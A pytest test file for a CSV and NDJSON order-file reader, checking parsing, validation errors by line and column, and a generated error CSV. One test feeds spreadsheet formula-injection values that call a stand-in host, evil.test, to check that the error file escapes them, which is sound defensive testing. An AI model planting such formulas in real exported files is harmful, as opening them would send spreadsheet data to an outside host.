"""Files of orders: what is right is read, and what is wrong is named by line, column and value."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kept.connectors.channels.inhouse.columns import COLUMNS, REQUIRED
from kept.connectors.channels.inhouse.files import messages_of_file, read_file
from kept.connectors.channels.inhouse.mapping import normalise
from kept.connectors.channels.inhouse.schemas import LineBody, OrderBody
from kept.connectors.order_files import BadCell, FileReading, errors_csv
from kept.domain.money import to_decimal_string
from kept.domain.order import OrderContent
from kept.ports import BadMessage, Incoming
from tests.unit.connectors.channels.inhouse.orders import line, order

NOW = datetime(2026, 11, 3, 9, 0, tzinfo=UTC)
ROW: dict[str, str] = {
    "order_id": "A-1",
    "revision": "2026-11-03T09:30:00Z",
    "currency": "EUR",
    "placed_at": "2026-11-03T10:29:00+01:00",
    "payment": "paid",
    "total": "5.00",
    "ship_by": "2026-11-04T16:00:00Z",
    "deliver_by": "2026-11-06T22:00:00Z",
    "line_id": "1",
    "sku": "MUG",
    "quantity": "2",
    "unit_price": "2.50",
}
ADDRESS = {
    "ship_to_name": "Zoé Blanc",
    "ship_to_line1": "1 quai Perrache",
    "ship_to_city": "Lyon",
    "ship_to_postal_code": "69002",
    "ship_to_country": "FR",
}


def written(*rows: dict[str, str], separator: str = ",") -> bytes:
    """Rows as a CSV file with every column that any of them has."""
    names = list(dict.fromkeys(name for row in rows for name in row))
    text = io.StringIO(newline="")
    writer = csv.DictWriter(text, names, restval="", delimiter=separator)
    writer.writeheader()
    writer.writerows(rows)
    return text.getvalue().encode()


def read(*rows: dict[str, str], separator: str = ",") -> FileReading:
    return read_file("orders.csv", written(*rows, separator=separator))


def contents(reading: FileReading) -> list[OrderContent]:
    found = [normalise("app", Incoming({}, each.body), NOW) for each in reading.orders]
    return [content for content in found if content is not None]


def places(reading: FileReading) -> list[tuple[int, str, str]]:
    return [(cell.row, cell.column, cell.value) for cell in reading.bad]


def one(name: str, value: str) -> tuple[int, str, str]:
    """The only place that is bad in a file whose second line has `value` in column `name`."""
    reading = read({**ROW, **ADDRESS, name: value}, {**ROW, "order_id": "A-2"})
    assert [each.order_id for each in reading.orders] == ["A-2"]
    assert reading.bad[0].advice
    (place,) = places(reading)
    return place


# ------------------------------------------------------------------ what is right


def test_rows_of_an_order_are_its_lines() -> None:
    second = {"order_id": "A-1", "line_id": "2", "sku": "CUP", "quantity": "3", "unit_price": "0", "gift": "true"}
    reading = read({**ROW, **ADDRESS, "tax_included": "TRUE", "hold": "wait"}, second, {**ROW, "order_id": "A-2"})
    assert reading.bad == []
    assert [(each.row, each.order_id) for each in reading.orders] == [(2, "A-1"), (4, "A-2")]
    first, other = contents(reading)
    assert [(each.external_id, each.sku, each.quantity, each.gift) for each in first.lines] == [
        ("1", "MUG", 2, False),
        ("2", "CUP", 3, True),
    ]
    assert (first.number, first.hold, first.tax_included) == ("A-1", "wait", True)
    assert first.ship_to is not None
    assert (first.ship_to.name, first.ship_to.line2) == ("Zoé Blanc", "")
    assert first.computed_total_minor() == first.total_minor == 500
    assert (other.ship_to, other.email, other.promise.service) == (None, "", "")


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
@pytest.mark.parametrize("mark", [b"", b"\xef\xbb\xbf"])
@pytest.mark.parametrize("newline", [b"\r\n", b"\n"])
def test_any_usual_separator_mark_and_line_end_is_read(separator: str, mark: bytes, newline: bytes) -> None:
    body = mark + written({**ROW, **ADDRESS}, separator=separator).replace(b"\r\n", newline)
    (content,) = contents(read_file("ORDERS.CSV", body))
    assert content.ship_to is not None
    assert content.ship_to.name == "Zoé Blanc"


def test_a_quoted_text_may_hold_separators_quotes_and_new_lines_and_lines_are_counted_on() -> None:
    title = 'Mug, "red"\r\nlarge'
    reading = read({**ROW, "title": title}, {**ROW, "order_id": "A-2", "quantity": "x"})
    assert contents(reading)[0].lines[0].title == title
    assert places(reading) == [(4, "quantity", "x")]


def test_a_header_may_be_in_capitals() -> None:
    head, rows = written({**ROW, **ADDRESS}).split(b"\r\n", 1)
    assert len(read_file("a.csv", head.upper() + b"\r\n" + rows).orders) == 1


def test_empty_rows_are_passed_over() -> None:
    body = written(ROW) + b",,,,,,,,,,,\r\n\r\n" + written({**ROW, "order_id": "A-2"}).split(b"\r\n", 1)[1]
    assert [each.row for each in read_file("a.csv", body).orders] == [2, 5]


def test_every_member_of_the_format_has_its_column_but_kits() -> None:
    order_members = {column.path[0] for column in COLUMNS.values() if not column.of_line}
    line_members = {column.path[0] for column in COLUMNS.values() if column.of_line}
    assert order_members == set(OrderBody.__struct_fields__) - {"lines"}
    assert line_members == set(LineBody.__struct_fields__) - {"kit"}


# ------------------------------------------------------------------ what is wrong


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("revision", "2026-11-03 09:30"),
        ("placed_at", "03.11.2026"),
        ("currency", "euro"),
        ("payment", "cash"),
        ("total", "5,00"),
        ("total", "1e3"),
        ("total", "5.001"),
        ("refunded", "-1.00"),
        ("ship_by", "1889-01-01T00:00:00Z"),
        ("acknowledge_by", "soon"),
        ("test", "yes"),
        ("quantity", "2.0"),
        ("quantity", "0"),
        ("quantity", "1000001"),
        ("quantity", "9" * 400),
        ("quantity", "²"),
        ("cancelled_quantity", "3"),
        ("unit_price", "12.505"),
        ("weight_g", "-1"),
        ("gift", "1"),
        ("ship_to_country", "France"),
        ("ship_to_country", ""),
        ("line_id", "x" * 201),
        ("revision", ""),
        ("unit_price", ""),
    ],
)
def test_a_wrong_cell_is_named_with_its_value_and_what_to_do(name: str, value: str) -> None:
    assert one(name, value) == (2, name, value)


def test_every_wrong_cell_of_an_order_is_named_and_its_other_rows_with_it() -> None:
    second = {"order_id": "A-1", "line_id": "2", "sku": "CUP", "quantity": "-", "unit_price": "x"}
    third = {**second, "line_id": "3", "quantity": "1", "unit_price": "1.00"}
    reading = read(ROW, second, third)
    assert reading.orders == []
    assert places(reading) == [(2, "", ""), (3, "quantity", "-"), (3, "unit_price", "x"), (4, "", "")]


def test_what_belongs_to_the_order_may_not_differ_between_its_rows() -> None:
    reading = read(ROW, {**ROW, "line_id": "2", "currency": "USD"})
    assert reading.orders == []
    assert (3, "currency", "USD") in places(reading)


def test_rows_of_an_order_stand_together() -> None:
    reading = read(ROW, {**ROW, "order_id": "A-2"}, {**ROW, "line_id": "2"})
    assert [each.order_id for each in reading.orders] == ["A-2"]
    assert (4, "order_id", "A-1") in places(reading)


def test_two_lines_of_one_id_are_refused_at_the_second() -> None:
    assert (3, "line_id", "1") in places(read(ROW, ROW))


def test_a_row_without_an_order_is_named() -> None:
    reading = read(ROW, {**ROW, "order_id": ""})
    assert [each.order_id for each in reading.orders] == ["A-1"]
    assert places(reading) == [(3, "order_id", "")]


def test_a_row_of_another_length_than_the_header_is_not_taken() -> None:
    body = written(ROW) + b"A-2,2026-11-03T09:30:00Z\r\n" + written({**ROW, "order_id": "A-3"}).split(b"\r\n", 1)[1]
    reading = read_file("a.csv", body)
    assert [each.order_id for each in reading.orders] == ["A-1", "A-3"]
    assert reading.bad[0].problem == "the row has 2 cells, the header 12"


def test_behind_a_quote_that_never_ends_nothing_is_read_and_the_order_before_it_is_not_taken() -> None:
    body = written(ROW, {**ROW, "order_id": "A-2"}) + b'A-2,"never ended\r\n' + b"A-3,x\r\n"
    reading = read_file("a.csv", body)
    assert [each.order_id for each in reading.orders] == ["A-1"]
    assert [cell.row for cell in reading.bad] == [3, 4]


@pytest.mark.parametrize(
    ("body", "row", "problem"),
    [
        (b"", 1, "empty"),
        (b" \r\n", 1, "empty"),
        ("order_id,total".encode("utf-16"), 1, "UTF-16"),
        (b"order_id\r\nZo\xeb\r\n", 2, "0xeb is not UTF-8"),
        (b"order_id\r\n\x00\r\n", 2, "NUL"),
        (b"a;b;c\r\n1;2;3\r\n", 1, "none of the columns"),
    ],
)
def test_a_file_that_can_not_be_read_says_where_and_why(body: bytes, row: int, problem: str) -> None:
    reading = read_file("orders.csv", body)
    assert reading.orders in ((), [])
    assert reading.bad[0].row == row
    assert problem in reading.bad[0].problem


def test_a_header_is_judged_before_any_row() -> None:
    short = {name: value for name, value in ROW.items() if name != "total"}
    reading = read({**short, "colour": "red"})
    assert places(reading) == [(1, "colour", "colour"), (1, "total", "")]
    doubled = read_file("a.csv", b",".join([*(name.encode() for name in REQUIRED), b"sku"]) + b"\r\n")
    assert places(doubled) == [(1, "sku", "sku")]


def test_a_file_of_another_kind_says_which_are_taken() -> None:
    assert "*.csv, *.tsv, *.ndjson, *.jsonl" in read_file("orders.xlsx", b"PK").bad[0].advice


@given(st.text(max_size=300), st.sampled_from(["a.csv", "a.ndjson"]))
def test_no_text_breaks_the_reader(text: str, name: str) -> None:
    reading = read_file(name, text.encode("utf-8", "surrogatepass"))
    assert not reading.orders
    assert reading.bad or not text.strip("\n")


@given(
    st.lists(
        st.tuples(st.integers(1, 1000), st.integers(0, 10**7), st.integers(0, 10**5), st.text(max_size=30)),
        min_size=1,
        max_size=6,
    ),
    st.sampled_from([",", ";", "\t"]),
    st.sampled_from(["EUR", "JPY", "KWD"]),
)
def test_what_is_written_is_read_to_the_last_piece_and_minor_unit(
    sold: list[tuple[int, int, int, str]], separator: str, currency: str
) -> None:
    total = sum(quantity * price + tax for quantity, price, tax, _ in sold)
    rows = [
        {
            **ROW,
            "line_id": str(number),
            "currency": currency,
            "quantity": str(quantity),
            "unit_price": to_decimal_string(price, currency),
            "tax": to_decimal_string(tax, currency),
            "total": to_decimal_string(total, currency),
            "title": title.replace("\x00", ""),
        }
        for number, (quantity, price, tax, title) in enumerate(sold)
    ]
    (content,) = contents(read(*rows, separator=separator))
    assert content.computed_total_minor() == content.total_minor == total
    assert [(each.quantity, each.unit_price_minor, each.tax_minor) for each in content.lines] == [
        (quantity, price, tax) for quantity, price, tax, _ in sold
    ]
    assert [each.title for each in content.lines] == [row["title"].strip() for row in rows]


# ------------------------------------------------------------------ NDJSON


def ndjson(*orders: Any) -> bytes:
    return b"".join(json.dumps(each).encode() + b"\n" for each in orders)


def test_each_line_of_json_is_an_order_or_an_event_with_one() -> None:
    event = {"specversion": "1.0", "id": "e", "source": "/s", "type": "t", "data": order(line(), id="A-2")}
    reading = read_file("a.ndjson", b"\xef\xbb\xbf" + ndjson(order(line())) + b"\r\n" + ndjson(event))
    assert [(each.row, each.order_id) for each in reading.orders] == [(1, "A-1001"), (3, "A-2")]
    assert reading.bad == []


def test_a_bad_line_of_json_is_named_with_path_and_value() -> None:
    event = {"specversion": "1.0", "id": "e", "source": "/s", "type": "t", "data": order(line(quantity=0), id="A-2")}
    bad = read_file("a.jsonl", ndjson(order(line(quantity="2")), event, order(line(), id="A-3")) + b'{"id": }').bad
    assert [(cell.row, cell.order_id, cell.column, cell.value) for cell in bad] == [
        (1, "A-1001", "$.lines[0].quantity", "2"),
        (2, "A-2", "$.data.lines[0].quantity", "0"),
        (4, "", "8", ""),
    ]


def test_any_of_the_files_can_be_tried_by_hand() -> None:
    pretty = json.dumps(order(line()), indent=1).encode()
    assert [each.body for each in messages_of_file(pretty)] == [pretty]
    assert len(messages_of_file(ndjson(order(line()), order(line(), id="A-2")))) == 2
    assert len(messages_of_file(written(ROW, {**ROW, "order_id": "A-2"}))) == 2
    with pytest.raises(BadMessage, match=r"whole number.*\(at line 2 column quantity\)"):
        messages_of_file(written({**ROW, "quantity": "x"}))


# ------------------------------------------------------------------ the error file


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "＝"])
def test_no_cell_of_an_error_file_is_run_as_a_formula(start: str) -> None:
    value = start + 'HYPERLINK("http://evil.test?"&A1)'
    body = errors_csv([BadCell(7, value, value, value, "bad", "mend it")])
    header, row = csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""))
    assert header == ["line", "order_id", "column", "value", "problem", "what_to_do"]
    assert row == ["7", "'" + value, "'" + value, "'" + value, "bad", "mend it"]


def test_an_error_file_shortens_long_values() -> None:
    body = errors_csv([BadCell(1, "", "title", "x" * 100_000, "bad", "mend it")])
    assert len(body) < 1000
